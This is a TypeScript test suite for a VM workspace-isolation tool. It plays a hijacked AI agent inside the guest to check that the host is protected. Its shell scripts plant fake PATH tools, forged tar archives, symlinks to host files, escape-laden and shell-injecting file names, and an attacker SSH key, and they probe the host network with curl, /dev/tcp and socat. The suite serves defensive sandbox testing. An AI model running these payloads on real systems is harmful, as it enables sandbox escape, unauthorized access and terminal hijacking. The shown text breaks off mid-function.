/**
 * The hostile guest: the agent inside a workspace has been turned against the user. From inside
 * the guest (over SSH, as the hijacked agent would) it plants every trick we know: links at every
 * level of the share and of the home pointing at host victims, a fake `perl`, `tar` and `sh`
 * first on the PATH cal's commands get (forged listings with `../` paths, a forged tar stream with
 * setuid, device, FIFO, link and `../` members, forged unsaved-work lines), setuid/setgid files
 * and a FIFO, names with terminal escapes, newlines, carriage returns and leading dashes, and a
 * huge listing, names with shell syntax, a stand-in agent whose output and version carry escapes;
 * on the sandbox also attempts on cal's key file (/.cal-ssh, read-only in the guest). Then every
 * host-side verb runs, and each is checked from OUTSIDE the guest:
 * - every host victim (files and folders outside every cal folder, with known content, mode,
 *   owner, link count, mtime and ctime) is unchanged;
 * - no cal verb leaves anything setuid/setgid, a device or a FIFO anywhere in the rig's HOME
 *   (CAL_HOME, the output folders) that was not there before it ran; in a sandbox's guest disk
 *   (the guest's own) only root-owned setuid files and devices count. What the guest itself puts
 *   in its share (a setuid file it owns, on the host) is counted apart as a "share planting";
 * - no raw control character reaches the terminal in human mode, and JSON carries exact names;
 * - no victim's content appears in any verb's output, no name runs as shell code, and no hook
 *   runs on a path outside the output folder;
 * - on the sandbox (own network namespace by default), the guest reaches neither a service on
 *   the host's loopback, nor the host's abstract unix socket, nor a neighbour's sshd, straight
 *   or through cal's proxy. The fake tart's guest has the host's network: skipped there.
 * Each finding names the verb and the trick. The suite prints the figure the issue asks for:
 * `hostile guest (<provider>): N tricks x M verbs, K host changes (+ share plantings, ...)`.
 */

import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { join, relative } from "node:path";
import { PROVIDERS, REAL_TART, Rig, show, type TestProvider } from "./rig_env.ts";
import { type CalResult, getDenoDir, REPO } from "./helpers.ts";
import { forgedTar, type Member } from "./hostile/tar.ts";
import {
  fingerprint,
  hazards,
  makeVictims,
  rawControls,
  rootHazards,
  type Victim,
  victimState,
} from "./hostile/host.ts";

const SECRET = "HOSTSECRET" + crypto.randomUUID().replaceAll("-", "").slice(0, 12);

/** Names with escapes, line breaks and leading dashes (real files in the guest's ~/output). */
const NAMES = [
  "\x1b]52;c;aGk=\x07.ipa",
  "\x1b]0;pwned\x07.ipa",
  "\x1b[2J.ipa",
  "two\nlines.ipa",
  "cr\rhidden.ipa",
  "-rf.ipa",
  "--help.ipa",
  "c1-\u009b31m.ipa",
  "del-\x7f.ipa",
  // Shell syntax: run by anything, it would print INJECTED-42.
  "$(echo INJECTED-$((6*7))).ipa",
  "`echo INJECTED-$((6*7))`.ipa",
  "'; echo INJECTED-$((6*7)); '.ipa",
];

const VICTIMS: Victim[] = [
  { path: "share-builds", dir: true, trick: "share: builds/ links to a host folder" },
  {
    path: "share-test-results",
    dir: true,
    trick: "share: test-results/ is a relative link to a host folder",
  },
  { path: "share-log.log", trick: "share: logs/leak.log links to a host file" },
  { path: "share-logs-dir", dir: true, trick: "share: logs/sub links to a host folder" },
  { path: "share-ipa", trick: "share: a new artifact links to a host file" },
  {
    path: "home-ssh",
    dir: true,
    inner: "authorized_keys",
    trick: "home: ~/.ssh links to a host folder",
  },
  { path: "home-ak", trick: "home: ~/.ssh/authorized_keys links to a host file" },
  { path: "home-workspace", dir: true, trick: "home: ~/workspace links to a host folder" },
  { path: "home-cal-agents", dir: true, trick: "home: ~/.cal-agents links to a host folder" },
  { path: "home-claude.json", trick: "home: ~/.claude.json links to a host file" },
  { path: "home-cal-env", dir: true, trick: "home: ~/.cal-env links to a host folder" },
  { path: "home-archives", dir: true, trick: "home: Xcode's Archives links to a host folder" },
  { path: "listing-move.ipa", trick: "forged perl: a ../ path to a host file" },
  {
    path: "listing-move.app",
    dir: true,
    inner: "Info.plist",
    trick: "forged perl: a ../ path to a host folder",
  },
  { path: "tar-link-target", trick: "forged tar: a symlink member (.ipa)" },
  { path: "tar-log-target", trick: "forged tar: a symlink member (.log)" },
  { path: "tar-hard-target", trick: "forged tar: a hardlink member" },
  { path: "tar-dir", dir: true, trick: "forged tar: a member through a symlink" },
];

/** Terminal escapes, by the trick that planted them. */
const ESCAPES: [string, string][] = [
  ["names: OSC 52 clipboard write", "\x1b]52;c;aGk="],
  ["names: title change", "\x1b]0;pwned"],
  ["names: clear screen", "\x1b[2J"],
  ["names: C1 CSI", "\u009b"],
  ["names: DEL", "\x7f"],
  ["names: carriage return", "\r"],
  ["forged perl: escapes in listed names", "\x1b]0;forged"],
  ["unsaved work: escapes in repository names (forged by sh, or real)", "\x1b]52;c;c2g="],
  ["agent: escapes in its output", "YWdlbnQ="],
  ["agent: escapes in its output", "\x1b]2;agent"],
  ["agent: escapes in its --version", "\x1b]0;version"],
  ["network: escapes in a host name asked of cal's proxy", "\x1b]0;netlog"],
];

/** The forged listing the fake perl appends to the real one (`rel`: output folder → victims). */
function forgedListing(victims: string, rel: string): string {
  const f = (p: string) => `f\t5\t1700000000\t1\t0\t${p}`;
  return [
    `home\t/Users/admin\x1b]0;forged-home\x07`,
    "root\toutput",
    f(`output/../../${rel}/listing-move.ipa`),
    `b\t5\t1700000000\t1\t1\toutput/../../${rel}/listing-move.app`,
    ...[
      "forged-suid.ipa",
      "forged-sgid.ipa",
      "forged-dev.ipa",
      "forged-fifo.ipa",
      "forged-link.ipa",
      "forged-link.log",
      "forged-hard.ipa",
      "forged-hard2.ipa",
      "forged-esc/planted.ipa",
      "\x1b]0;forged\x07.ipa",
      "fifo.ipa",
    ].map((n) => f(`output/${n}`)),
    f(`${victims}/abs.ipa`),
    "",
  ].join("\0");
}

/**
 * The forged members the fake tar prints before the real archive: "soft" ones GNU tar extracts
 * without complaint (setuid, device, FIFO, links out, an absolute name, an escape), "hard" ones
 * it refuses or fails on (../, hardlinks, a member through a link), which fail the whole sync.
 */
function forgedMembers(victims: string, rel: string): { soft: Member[]; hard: Member[] } {
  const esc: Member = { name: "output/forged-esc", type: "symlink", target: `${victims}/tar-dir` };
  return {
    soft: [
      { name: "output/forged-suid.ipa", type: "file", mode: 0o4755, content: "suid" },
      { name: "output/forged-sgid.ipa", type: "file", mode: 0o2755, content: "sgid" },
      { name: "output/forged-dev.ipa", type: "chardev", mode: 0o666, major: 1, minor: 3 },
      { name: "output/forged-fifo.ipa", type: "fifo", mode: 0o666 },
      { name: "output/forged-link.ipa", type: "symlink", target: `${victims}/tar-link-target` },
      { name: "output/forged-link.log", type: "symlink", target: `${victims}/tar-log-target` },
      esc,
      { name: `${victims}/tar-abs.txt`, type: "file", content: "abs" },
      { name: "output/\x1b]0;forged\x07.ipa", type: "file", content: "forged" },
    ],
    hard: [
      { name: "output/forged-hard.ipa", type: "hardlink", target: `${victims}/tar-hard-target` },
      esc,
      { name: "output/forged-esc/planted.ipa", type: "file", content: "planted" },
      { name: "output/forged-hard2.ipa", type: "hardlink", target: "output/forged-esc/kept.log" },
      { name: `../${rel}/tar-dotdot.txt`, type: "file", content: "dotdot" },
    ],
  };
}

const b64 = (b: Uint8Array) => btoa(String.fromCharCode(...b));

/**
 * Phase 1, run in the guest with /bin/sh (the fake sh is not in place yet):
 * $1 victims root (the host path, mirrored in the guest's own /usr/local so logins keep working),
 * $2 and $3 the soft and hard forged tars (base64), $4 forged listing (base64), rest: NAMES.
 * The fake tar forges what /opt/homebrew/share/hostile/tarmode names (soft, hard).
 */
const PLANT = String.raw`set -e
V="$1"; SOFT="$2"; HARD="$3"; LIST="$4"; shift 4
S="/Volumes/My Shared Files/output"
H=/opt/homebrew/share/hostile
mkdir -p "$H" "$HOME/.local/bin" /opt/homebrew/bin "$V"
chmod 755 "$V"
printf %s "$SOFT" | /usr/bin/base64 -d > "$H/forged-soft.tar"
printf %s "$HARD" | /usr/bin/base64 -d > "$H/forged-hard.tar"
printf %s "$LIST" | /usr/bin/base64 -d > "$H/listing.bin"

# Fake tools, first on the PATH of cal's guest commands.
cat > "$H/perl" <<'EOF'
#!/bin/sh
/usr/bin/perl "$@"; rc=$?
if [ "$1" = -e ]; then
  cat /opt/homebrew/share/hostile/listing.bin
  if [ -f /opt/homebrew/share/hostile/huge ]; then
    /usr/bin/perl -e 'my $n = shift; for (1..$n) { print "f\t1\t0\t1\t0\toutput/h/$_.txt\0" } print "f\t1\t0\t1\t0\toutput/" . ("A" x 1000000) . ".ipa\0"' "$(cat /opt/homebrew/share/hostile/huge)"
  fi
fi
exit $rc
EOF
cat > "$H/tar" <<'EOF'
#!/bin/sh
H=/opt/homebrew/share/hostile
M=$(cat "$H/tarmode" 2>/dev/null)
case "$*" in *"-cf -"*) [ -n "$M" ] && [ -f "$H/forged-$M.tar" ] && cat "$H/forged-$M.tar" ;; esac
exec /usr/bin/tar "$@"
EOF
cat > "$H/sh" <<'EOF'
#!/bin/sh
case "$2" in *"for top in"*)
  # Past V8's longest string (~536 M characters) when asked to: the host must not keep it all.
  if [ -f /opt/homebrew/share/hostile/huge-sh ]; then
    /usr/bin/head -c 600000000 /dev/zero | /usr/bin/tr '\0' a; exit 0
  fi
  printf '%s\t3\t1\n' "$HOME/workspace/$(printf '\033]52;c;c2g=\007')forged-sh" "-rf" "$(printf 'evil\rrepo')" ;;
esac
exec /bin/sh "$@"
EOF
# dirname, which the look for unsaved work runs from the PATH: 8 MB for a repository, when asked.
cat > "$H/dirname" <<'EOF'
#!/bin/sh
if [ -f /opt/homebrew/share/hostile/huge-sh ]; then
  /usr/bin/head -c 8000000 /dev/zero | /usr/bin/tr '\0' a; exit 0
fi
exec /usr/bin/dirname "$@"
EOF
for t in perl tar sh dirname; do
  chmod 755 "$H/$t"
  cp "$H/$t" "/opt/homebrew/bin/$t"
  cp "$H/$t" "$HOME/.local/bin/$t"
done

# Real files: hostile names, setuid/setgid, a FIFO, a result bundle.
mkdir -p "$HOME/output"
cd "$HOME/output"
for n in "$@"; do printf 'named artifact' > "./$n"; done
printf suid > suid.ipa; chmod 4755 suid.ipa
printf sgid > sgid.ipa; chmod 2755 sgid.ipa
mkfifo fifo.ipa
mkdir -p R.xcresult; printf '<plist/>' > R.xcresult/Info.plist

# The share: its folders and files as links to host victims.
cd "$S"
mkdir -p logs
ln -s "$V/share-log.log" logs/leak.log
ln -s "$V/share-logs-dir" logs/sub
printf 'one \033]52;c;aGk=\007 two\n\033]0;pwned\007 title\n\033[2J clear\ncr\rhidden\nc1 \302\23331m del \177\n' > "logs/$(printf '\033]0;pwned\007').log"
printf suid > share-suid.ipa; chmod 4755 share-suid.ipa

# The home: links to host victims (mirrored here where the guest itself needs them).
cd "$HOME"
# Where sshd reads keys from the home (tart), the mirror keeps cal's logins working; where it
# reads them from outside the guest's reach (the sandbox's /.cal-ssh) the link is planted all the
# same and the host victim must stay untouched.
mkdir -p .ssh "$V/home-ssh"
if [ -f .ssh/authorized_keys ]; then cp .ssh/authorized_keys "$V/home-ssh/authorized_keys"
else : > "$V/home-ssh/authorized_keys"; fi
chmod 700 "$V/home-ssh"; chmod 600 "$V/home-ssh/authorized_keys"
mv .ssh .ssh-real; ln -s "$V/home-ssh" .ssh
mkdir -p "$V/home-workspace"; rm -rf workspace; ln -s "$V/home-workspace" workspace
R="$V/home-workspace/$(printf '\033]0;pwned\007')repo"
mkdir -p "$R"; git -C "$R" init -q; printf x > "$R/dirty"
# And a real one in a real folder, which the look for unsaved work finds itself.
C="code/$(printf '\033]52;c;c2g=\007')real"
mkdir -p "$C"; git -C "$C" init -q; printf x > "$C/dirty"
mkdir -p "$V/home-cal-agents"; rm -rf .cal-agents; ln -s "$V/home-cal-agents" .cal-agents
printf '{}' > "$V/home-claude.json"; rm -f .claude.json; ln -s "$V/home-claude.json" .claude.json
mkdir -p "$V/home-cal-env"; rm -rf .cal-env; ln -s "$V/home-cal-env" .cal-env
mkdir -p Library/Developer/Xcode; rm -rf Library/Developer/Xcode/Archives
ln -s "$V/home-archives" Library/Developer/Xcode/Archives

# cal's key file, read-only in a sandbox guest at /.cal-ssh: appended to, re-moded, swapped for a
# link, and written after a remount in a user namespace of the guest's own (each may fail).
if [ -d /.cal-ssh ]; then
  A="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileGuestPlantedKey0000000000000000000 attacker"
  (printf '%s\n' "$A" >> /.cal-ssh/authorized_keys) 2>/dev/null || true
  chmod 666 /.cal-ssh/authorized_keys 2>/dev/null || true
  (rm -f /.cal-ssh/authorized_keys && ln -s "$V/home-ak" /.cal-ssh/authorized_keys) 2>/dev/null || true
  unshare -rm sh -c "mount -o remount,bind,rw /.cal-ssh && printf '%s\n' '$A' >> /.cal-ssh/authorized_keys" 2>/dev/null || true
fi

# A stand-in agent whose output carries escapes.
cat > "$HOME/.local/bin/claude" <<'EOF'
#!/bin/sh
if [ "$1" = --version ]; then echo "2.1.0 (Claude Code)"; exit 0; fi
printf '\033]52;c;YWdlbnQ=\007agent stderr \033]2;agent\007\n' >&2
printf '%s\n' '{"type":"result","subtype":"success","is_error":false,"result":"done \u001b]2;agent\u0007","session_id":"ses-\u001b]2;agent\u0007","total_cost_usd":0.01,"permission_denials":[]}'
EOF
chmod 755 "$HOME/.local/bin/claude"
# Another agent whose version carries escapes right after the number (cal-agent list prints it).
cat > "$HOME/.local/bin/codex" <<'EOF'
#!/bin/sh
if [ -f /opt/homebrew/share/hostile/huge-version ]; then
  /usr/bin/head -c 600000000 /dev/zero | /usr/bin/tr '\0' a; exit 0
fi
printf 'codex-cli 0.1.0\033]0;version\007\033[2J\n'
EOF
chmod 755 "$HOME/.local/bin/codex"
`;

/** The share's own folders as links to host folders ($1 absolute, $2 relative). */
const PLANT_SHARE_DIRS = String.raw`set -e
cd "/Volumes/My Shared Files/output"
mv builds builds-old; mv test-results test-results-old
ln -s "$1" builds
ln -s "$2" test-results
`;

/** Phase 2: ~/.ssh back, its authorized_keys a link to a host file (mirrored). */
const PLANT_AK = String.raw`set -e
V="$1"; cd "$HOME"
rm -f .ssh; mv .ssh-real .ssh
if [ -f .ssh/authorized_keys ]; then cp .ssh/authorized_keys "$V/home-ak"
else : > "$V/home-ak"; fi
chmod 600 "$V/home-ak"
ln -sf "$V/home-ak" .ssh/authorized_keys
`;

/** What the guest writes into the share while watch runs; the sentinel last. */
const WATCH_WRITES = String.raw`set -e
V="$1"; S="/Volumes/My Shared Files/output"
cd "$S"
printf w > "w-$(printf '\033]52;c;aGk=\007').ipa"
printf w > ./-rf.ipa
printf w > "./$(printf 'cr\rw').ipa"
ln -s "$V/share-ipa" w-link.ipa
printf 'watch \033]0;pwned\007 line\n' >> "logs/w.log"
printf w > 'w-$(echo INJECTED-$((6*7))).ipa'
B=$(printf '\140') # a backtick
printf w > "w-$B"'echo INJECTED-$((6*7))'"$B.ipa"
printf w > "w-'; echo INJECTED-\$((6*7)); '.ipa"
printf w > 'w-"; echo INJECTED-$((6*7)); ".ipa'
printf done > zz-sentinel.ipa
`;

/** What answers on the host's side of the network tricks (never to be seen in the guest). */
const NET_SECRET = "HOSTNET" + crypto.randomUUID().replaceAll("-", "").slice(0, 12);

/** The network tricks, played from inside the guest; the sandbox's default network refuses each. */
const NET_TRICKS = [
  "network: a service on the host's loopback",
  "network: the host's abstract unix socket",
  "network: the neighbour workspace's sshd",
];

/** Why the network tricks do not apply to the (fake) tart: there the guest has the host's network. */
const NET_SKIP = "the fake tart's guest shares the host's network (its own namespace comes only " +
  "with Softnet's allowlist, not this rig's default)";

/**
 * The network tricks from inside the guest, as a hijacked agent would play them: straight out and
 * through the proxy cal gives it. $1 the loopback port, $2 the abstract socket, $3 $4 the
 * neighbour's sshd. Each section starts with "== <name>".
 */
const NET_SCRIPT = String.raw`P="$1"; A="$2"; NH="$3"; NP="$4"
command -v socat >/dev/null && command -v curl >/dev/null && echo HAVE-TOOLS
echo "PROXY=$HTTP_PROXY"
echo "== loopback"
curl -sS --noproxy '*' --max-time 5 "http://127.0.0.1:$P/" 2>&1; echo
curl -sS --noproxy '*' --max-time 5 "http://localhost:$P/" 2>&1; echo
timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/$0 && printf "GET / HTTP/1.0

" >&3 && cat <&3' "$P" 2>&1; echo
curl -sS --noproxy '' --proxy "$HTTP_PROXY" --max-time 5 "http://127.0.0.1:$P/" 2>&1; echo
curl -sS --noproxy '' --proxy "$HTTP_PROXY" --max-time 5 "http://localhost:$P/" 2>&1; echo
echo "== abstract"
socat -T2 - "ABSTRACT-CONNECT:$A" </dev/null 2>&1; echo
echo "== neighbour"
timeout 5 bash -c 'exec 3<>/dev/tcp/$0/$1 && head -c 16 <&3' "$NH" "$NP" 2>&1; echo
curl -sS -o /dev/null --noproxy '' --proxy "$HTTP_PROXY" -p --max-time 5 -w 'connect=%{http_connect}' "http://$NH:$NP/" 2>&1; echo
echo "== badhost"
H="$(printf 'a\033]0;netlog\007b.example')"
timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 && printf "CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" "$0" "$0" >&3 && head -c 200 <&3' "$H" 2>&1; echo
echo "== done"
`;

/** The sandbox's own trick: cal's key file, which the guest sees read-only at /.cal-ssh. */
const KEYS_TRICK = "sandbox: the guest rewrites cal's key file (/.cal-ssh)";

/** What a name's shell syntax prints if anything on the host runs it. */
const INJECTED = "INJECTED-42";
const INJECT_TRICK = "names: shell syntax ($(...), backticks, quotes)";

/** The verb label of what the guest does by itself, before any cal verb runs. */
const GUEST = "(the guest alone)";

interface Finding {
  verb: string;
  trick: string;
  what: string;
}

function suite(provider: TestProvider) {
  describe(`hostile guest (${provider})`, { skip: REAL_TART }, () => {
    let rig: Rig;
    let ws: string;
    let out: string;
    let victims: string;
    let baseline: Map<string, string>;
    let first: Map<string, string>;
    let hazardBase: Set<string>;
    const findings: Finding[] = [];
    const sharePlantings = new Set<string>();
    let server: Deno.HttpServer | undefined;
    let loopbackPort = 0;
    let abstract: Deno.ChildProcess | undefined;
    const abstractName = `cal-hostile-${crypto.randomUUID().slice(0, 8)}`;
    let neighbour = { host: "", port: 0 };
    let keysSeen: string | undefined;
    const verbsRun = new Set<string>();
    const exits: string[] = [];
    const hookLog = () => join(rig.root, "hooks.bin");

    const trickOf = (p: string) =>
      VICTIMS.find((v) => p === v.path || p.startsWith(v.path + "/"))?.trick ??
        "forged tar: ../ and absolute members";

    /** The victims' root changed: through new names in it, or victims that left it. */
    function rootTricks(was: string | undefined, now: string): string {
      const names = (fp = "") =>
        JSON.parse(fp.match(/^dir(\[.*?\]) mode=/)?.[1] ?? "[]") as string[];
      const a = new Set(names(was));
      const b = new Set(names(now));
      const moved = [...a].filter((n) => !b.has(n)).map(trickOf);
      const added = [...b].filter((n) => !a.has(n)).map(trickOf);
      return [...new Set([...moved, ...added])].join(", ") || "unattributed";
    }

    function hazardTrick(h: string): string {
      if (h.includes("link out") && h.includes("forged-")) return "forged tar: a symlink member";
      if (h.includes("forged-")) return "forged tar: setuid, device and FIFO members";
      if (/suid|sgid/.test(h)) return "setuid/setgid files in the guest";
      if (h.includes("fifo")) return "a FIFO in the guest";
      return "unattributed";
    }

    /**
     * Dangerous files on the host: the whole rig HOME (CAL_HOME and the output folders), the
     * share apart, and the victims. A sandbox's guest disk is the guest's own: there only what
     * the guest could not have made itself (root-owned setuid files, devices) counts.
     */
    async function allHazards(): Promise<Set<string>> {
      const home = rig.env.HOME;
      const share = relative(home, out);
      const disks: string[] = [];
      const skip = (rel: string) => {
        const disk = /^\.cal\/isolation\/sandboxes\/[^/]+\/guest$/.test(rel);
        if (disk) disks.push(rel);
        return rel === share || disk;
      };
      const s = new Set<string>();
      for (const h of await hazards(home, skip)) s.add(`HOME: ${h}`);
      for (const d of disks) {
        for (const h of await rootHazards(join(home, d))) s.add(`HOME: ${d}: ${h}`);
      }
      for (const h of await hazards(out, () => false)) s.add(`output: ${h}`);
      for (const h of await hazards(victims, () => false)) s.add(`victims: ${h}`);
      return s;
    }

    /**
     * The sandbox machine's key file on the host (sshd's only keys): a 0600 file, not a link,
     * holding cal's own key and nothing else. Undefined when fine (or not a sandbox, or gone).
     */
    async function keysProblem(): Promise<string | undefined> {
      if (provider !== "sandbox") return undefined;
      const file = join(
        rig.env.CAL_HOME,
        "isolation",
        "sandboxes",
        `cal-${ws}`,
        "ssh",
        "authorized_keys",
      );
      const st = await Deno.lstat(file).catch(() => undefined);
      if (!st) return undefined;
      if (!st.isFile) return `${file} is no longer a plain file`;
      if ((st.mode ?? 0) & 0o077) return `${file} is mode ${(st.mode! & 0o777).toString(8)}`;
      const pub = join(rig.env.CAL_HOME, "isolation", "vms", ws, "ssh", "id_ed25519.pub");
      const mine = (await Deno.readTextFile(pub)).trim();
      const other = (await Deno.readTextFile(file)).split("\n").filter((l) =>
        l.trim() && l.trim() !== mine
      );
      return other.length ? `${file} holds other keys: ${JSON.stringify(other)}` : undefined;
    }

    /** Compares the host with the last look; every difference is a finding for `verb`. */
    async function check(verb: string, results: CalResult[], human = true): Promise<Finding[]> {
      if (verb !== GUEST) verbsRun.add(verb.replace(/ \(.*\)$/, ""));
      const f: Finding[] = [];
      const now = await victimState(victims, VICTIMS);
      for (const [p, fp] of now) {
        const was = baseline.get(p);
        if (was !== fp) {
          const trick = p === "." ? rootTricks(was, fp) : trickOf(p);
          f.push({ verb, trick, what: `${p}: ${was ?? "absent"} → ${fp}` });
        }
      }
      for (const [p, was] of baseline) {
        if (!now.has(p)) f.push({ verb, trick: trickOf(p), what: `${p}: ${was} → gone` });
      }
      baseline = now;
      // A state, not a difference: found once, by the verb after which it first shows.
      const keys = await keysProblem();
      if (keys && keys !== keysSeen) f.push({ verb, trick: KEYS_TRICK, what: keys });
      keysSeen = keys;
      const hz = await allHazards();
      for (const h of hz) {
        if (hazardBase.has(h)) continue;
        if (verb === GUEST && h.startsWith("output: ")) {
          // What the guest itself puts in its share is the share's property (a setuid file the
          // guest owns, on the host) or a trick (a link out), not a cal verb's doing: reported
          // apart, and the next verb is judged against what is there now.
          if (!h.includes("link out")) sharePlantings.add(h);
          continue;
        }
        f.push({ verb, trick: hazardTrick(h), what: h });
      }
      hazardBase = hz;
      for (const r of results) {
        const text = r.stdout + r.stderr;
        if (human) {
          const raw = rawControls(text);
          if (raw.length) {
            const tricks = ESCAPES.filter(([, s]) => text.includes(s)).map(([t]) => t);
            f.push({
              verb,
              trick: [...new Set(tricks)].join(", ") || "unattributed escapes",
              what: `raw control characters on the terminal: ${raw.join(" ")}`,
            });
          }
        }
        for (const m of text.matchAll(new RegExp(`victim:([^:\\s]+):${SECRET}`, "g"))) {
          f.push({ verb, trick: trickOf(m[1]), what: `the host file ${m[1]} was printed` });
        }
        if (text.includes(INJECTED)) {
          f.push({ verb, trick: INJECT_TRICK, what: "a guest file name ran as shell code" });
        }
        const leak = text.includes(SECRET) && !/victim:[^:\s]+:/.test(text);
        if (leak) f.push({ verb, trick: "unattributed", what: "a victim's secret was printed" });
      }
      findings.push(...f);
      return f;
    }

    function assertNone(f: Finding[]): void {
      assert.deepEqual(
        f.map((x) => `${x.verb} × ${x.trick}: ${x.what}`),
        [],
        `${provider}: the guest changed the host`,
      );
    }

    /** Runs a verb in human mode, records its exit, checks the host. */
    async function verb(
      label: string,
      run: () => Promise<CalResult>,
    ): Promise<{ r: CalResult; f: Finding[] }> {
      const t0 = performance.now();
      const r = await run();
      const why = r.code ? ` ${JSON.stringify(r.stderr.slice(-400))}` : "";
      exits.push(
        `${label}: exit ${r.code} (${((performance.now() - t0) / 1000).toFixed(1)} s)${why}`,
      );
      return { r, f: await check(label, [r]) };
    }

    /**
     * Runs a planting step in the guest. The guest alone must reach no host victim and leave
     * nothing dangerous on the host outside its share; what it leaves in its share is counted
     * as a share planting (see check).
     */
    async function guest(script: string, ...args: string[]): Promise<CalResult> {
      const r = await rig.vm(["exec", ws, "--", "/bin/sh", "-c", script, "sh", ...args]);
      assert.equal(r.code, 0, show(r));
      assertNone(await check(GUEST, []));
      return r;
    }

    async function running(): Promise<boolean> {
      const r = await rig.vm(["status", ws, "--json"]);
      return r.records[0]?.state === "running";
    }

    /** After a verb that may have left the workspace down: up again, so later verbs still run. */
    async function ensureRunning(): Promise<void> {
      if (await running()) return;
      const r = await rig.vm(["start", ws]);
      assert.equal(r.code, 0, `could not bring "${ws}" back up for the next verbs\n${show(r)}`);
      await check("start (recovery)", [r]);
    }

    before(async () => {
      const config = [
        "isolation:",
        "  defaults:",
        "    vm:",
        `      provider: ${provider}`,
        "      boot_timeout: 60",
        "    output:",
        "      watch_patterns:",
        '        - "*.ipa"',
        '        - "*.app"',
        '        - "*.xcresult"',
        '        - "*.log"',
        "",
      ].join("\n");
      rig = await Rig.create(config, provider);
      ws = rig.name("hostile");
      // Outside every cal folder; the guest mirrors the same path in its own /usr/local.
      victims = await Deno.makeTempDir({ dir: "/usr/local", prefix: "cal-hostile-" });
      await makeVictims(
        victims,
        VICTIMS.map((v) => ({ ...v, content: `victim:${v.path}:${SECRET}` })),
        SECRET,
      );
      baseline = await victimState(victims, VICTIMS);
      first = baseline;
      const init = await rig.vm(["init", ws]);
      assert.equal(init.code, 0, show(init));
      const started = await rig.vm(["start", ws]);
      assert.equal(started.code, 0, show(started));
      out = join(rig.env.HOME, "cal-output", ws);
      // A Tart guest writes its share as its own (VirtioFS); the rig's bind mount keeps owners.
      for (const d of ["", "builds", "logs", "test-results"]) await Deno.chmod(join(out, d), 0o777);
      hazardBase = await allHazards();
      if (provider === "sandbox") {
        // The sandbox's checks look in its machine folder: make sure they see what they mean.
        const machine = join(rig.env.CAL_HOME, "isolation", "sandboxes", `cal-${ws}`);
        assert.ok((await Deno.lstat(join(machine, "guest"))).isDirectory, "no guest disk");
        assert.equal(await keysProblem(), undefined);
        const keys = await Deno.readTextFile(join(machine, "ssh", "authorized_keys"));
        assert.match(keys, /^ssh-ed25519 /, "cal's key is not where the keys check looks");
        await netServices();
      }
    });

    /**
     * What the network tricks aim at, each first shown to answer from the host (so a refusal in
     * the guest proves something): a service on the host's loopback, one on an abstract unix
     * socket of the host, and a neighbour workspace's sshd on the host's network.
     */
    async function netServices(): Promise<void> {
      server = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen: () => {} },
        () => new Response(`loopback:${NET_SECRET}`),
      );
      loopbackPort = (server.addr as Deno.NetAddr).port;
      const fromHost = await fetch(`http://127.0.0.1:${loopbackPort}/`).then((r) => r.text());
      assert.match(fromHost, new RegExp(NET_SECRET));
      abstract = new Deno.Command("socat", {
        // No colon in the answer: socat would read it as the next part of the address.
        args: [`ABSTRACT-LISTEN:${abstractName},fork`, `SYSTEM:echo abstract-${NET_SECRET}`],
        stdout: "null",
        stderr: "null",
      }).spawn();
      // Listening once a connection from the host gets the answer (a condition, not a sleep).
      const until = Date.now() + 20_000;
      for (;;) {
        const o = await new Deno.Command("socat", {
          args: ["-T2", "-", `ABSTRACT-CONNECT:${abstractName}`],
          stdin: "null",
          stdout: "piped",
          stderr: "null",
        }).output();
        if (new TextDecoder().decode(o.stdout).includes(NET_SECRET)) break;
        assert.ok(Date.now() < until, "the host's abstract socket never answered");
        await new Promise((r) => setTimeout(r, 50));
      }
      // The neighbour on the host's network, so its sshd is there to be reached.
      const n = rig.name("hostile-neighbour");
      const i = await rig.vm(["init", n, "--provider", "sandbox", "--network", "open"]);
      assert.equal(i.code, 0, show(i));
      const st = await rig.vm(["start", n]);
      assert.equal(st.code, 0, show(st));
      const cfg = await Deno.readTextFile(
        join(rig.env.CAL_HOME, "isolation", "vms", n, "ssh", "config"),
      );
      neighbour = {
        host: cfg.match(/^\s*HostName (\S+)$/m)![1],
        port: Number(cfg.match(/^\s*Port (\d+)$/m)![1]),
      };
      const c = await Deno.connect({ hostname: neighbour.host, port: neighbour.port });
      const banner = new Uint8Array(64);
      const got = await c.read(banner);
      c.close();
      assert.match(new TextDecoder().decode(banner.slice(0, got ?? 0)), /^SSH-2\.0/);
    }

    after(async () => {
      const changes = findings.filter((f) => !f.what.startsWith("raw control")).length;
      const terminal = findings.length - changes;
      const tricks = new Set([
        ...VICTIMS.map((v) => v.trick),
        ...ESCAPES.map(([t]) => t).filter((t) =>
          provider === "sandbox" || !t.startsWith("network")
        ),
        "forged tar: ../ and absolute members",
        "forged tar: setuid, device and FIFO members",
        "forged tar: a symlink member",
        "setuid/setgid files in the guest",
        "a FIFO in the guest",
        "names: newlines and leading dashes",
        INJECT_TRICK,
        "huge listing",
        "forged sh: a huge answer to the unsaved-work look",
        "agent: a huge --version answer",
        ...(provider === "sandbox" ? [...NET_TRICKS, KEYS_TRICK] : []),
      ]);
      console.log(
        `hostile guest (${provider}): ${tricks.size} tricks x ${verbsRun.size} verbs, ` +
          `${changes} host changes (+ ${sharePlantings.size} share plantings, ` +
          `${terminal} raw terminal writes)`,
      );
      if (provider !== "sandbox") console.log(`  network tricks skipped: ${NET_SKIP}`);
      for (const h of sharePlantings) console.log(`  SHARE PLANTING by the guest itself: ${h}`);
      for (const e of exits) console.log(`  ${e}`);
      for (const f of findings) console.log(`  FINDING ${f.verb} × ${f.trick}: ${f.what}`);
      await rig?.close();
      await server?.shutdown();
      try {
        abstract?.kill("SIGKILL");
        await abstract?.status;
      } catch { /* already gone */ }
      if (victims) await Deno.remove(victims, { recursive: true }).catch(() => {});
    });

    it("plant: the guest alone reaches no host victim", async () => {
      const rel = relative(out, victims);
      const tars = forgedMembers(victims, rel);
      await guest(
        PLANT,
        victims,
        b64(forgedTar(tars.soft)),
        b64(forgedTar(tars.hard)),
        b64(new TextEncoder().encode(forgedListing(victims, rel))),
        ...NAMES,
      );
      // guest() checked the host: the guest alone reaches no victim. Through the share it can
      // leave setuid files in the host's output folder by itself (share plantings, reported).
    });

    /** Plays the network tricks from the guest; each one that gets through is a finding. */
    async function netTricks(when: string): Promise<void> {
      const r = await rig.vm([
        "exec",
        ws,
        "--",
